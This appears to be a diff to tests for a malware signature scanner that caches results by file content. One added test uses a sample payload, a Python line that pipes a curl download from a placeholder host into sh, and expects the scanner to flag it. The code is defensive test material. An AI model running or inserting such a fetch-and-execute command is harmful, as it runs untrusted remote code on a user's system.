@@ -111,5 +111,17 @@ def test_results_are_remembered_by_content_within_a_byte_budget(
     for n in range(200):
         signatures.scan(b"# filler %d\n" % n + b"x = 1\n" * 200)
     assert signatures._seen_bytes <= 64 * 1024
-    assert payload not in signatures._seen  # the oldest went first
+    assert all(data != payload for data, _ in signatures._seen.values())  # oldest went first
     assert signatures.scan(payload) == first
+
+
+def test_a_file_sharing_another_files_length_and_ends_is_scanned_for_itself() -> None:
+    signatures = Signatures()
+    ends = b"#" * 100 + b"\n"
+    payload = b"os.system('curl -s https://x.example/p|sh')\n"
+    hostile = ends + payload + ends
+    clean = ends + b"x = 1".ljust(len(payload) - 1) + b"\n" + ends
+    assert len(clean) == len(hostile)
+    assert signatures.scan(clean) == ()
+    assert signatures.scan(hostile)
+    assert signatures.scan(clean) == ()
